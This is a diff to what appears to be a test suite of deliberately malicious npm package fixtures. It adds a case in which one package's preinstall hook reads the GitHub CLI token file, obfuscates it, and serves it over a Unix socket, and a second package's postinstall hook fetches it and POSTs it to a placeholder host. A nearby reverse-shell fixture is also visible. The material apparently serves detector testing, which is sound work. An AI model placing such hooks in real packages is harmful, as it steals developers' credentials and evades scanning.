@@ -121,6 +121,45 @@ _TAKES_UP = javascript(
     """
 )
 
+_WAITS = javascript(
+    """
+    const text = fs.readFileSync(`${os.homedir()}/.config/gh/hosts.yml`);
+    const mixed = text.map((byte, place) => byte ^ (place % 251));
+    const server = net.createServer((caller) => caller.end(mixed, () => server.close()));
+    server.listen("\\0board-words");
+    setTimeout(() => process.exit(), 20000);
+    """,
+    "net",
+)
+
+_STARTS = javascript(
+    """
+    const how = { detached: true, stdio: "ignore" };
+    child_process.spawn(process.execPath, ["wait.js"], how).unref();
+    """,
+    "child_process",
+)
+
+_ASKS = javascript(
+    """
+    async function asked() {
+      const line = net.connect("\\0board-words");
+      const pieces = [];
+      for await (const piece of line) pieces.push(piece);
+      return Buffer.concat(pieces);
+    }
+    for (let tries = 0; tries < 30; tries += 1) {
+      const body = await asked().catch(() => null);
+      if (body) {
+        await fetch("https://in.board-words.test/c", { method: "POST", body });
+        break;
+      }
+      await new Promise((done) => setTimeout(done, 200));
+    }
+    """,
+    "net",
+)
+
 _SHELL = javascript(
     """
     const line = net.connect(4460, "203.0.113.82");
@@ -241,6 +280,15 @@ def _two(folder: Path) -> tuple[Path, ...]:
     )
 
 
+def _two_talking(folder: Path) -> tuple[Path, ...]:
+    """One package reads and waits, another one asks it and sends: no file passes between them."""
+    files = {**_INDEX, "setup.js": _STARTS, "wait.js": _WAITS}
+    return (
+        build.npm(folder, "board-cache", files, scripts={"preinstall": "node setup.js"}),
+        build.npm(folder, "board-sync", {**_INDEX, "setup.js": _ASKS}, scripts={"postinstall": "node setup.js"}),
+    )
+
+
 THIEVES = [
     _npm(
         "npm-link-and-back", "relative-way", "through a link and `..`: the path as it is written is another file's",
@@ -258,6 +306,11 @@ THIEVES = [
         "npm-two-hands", "layout-words", "one dependency reads and leaves a file, another one sends it",
         {}, _theft("layout-cache", "github", "in.layout-words.test"), others=_two,
         dependencies={"layout-cache": "1.0.0", "layout-sync": "1.0.0"},
+    ),
+    _npm(
+        "npm-two-talking", "board-words", "one dependency reads and waits at a Unix socket, another one asks and sends",
+        {}, _theft("board-cache", "github", "in.board-words.test"), others=_two_talking,
+        dependencies={"board-cache": "1.0.0", "board-sync": "1.0.0"},
     ),
     _npm(
         "npm-reverse-shell", "line-open", "gives a shell to whoever listens at an address",
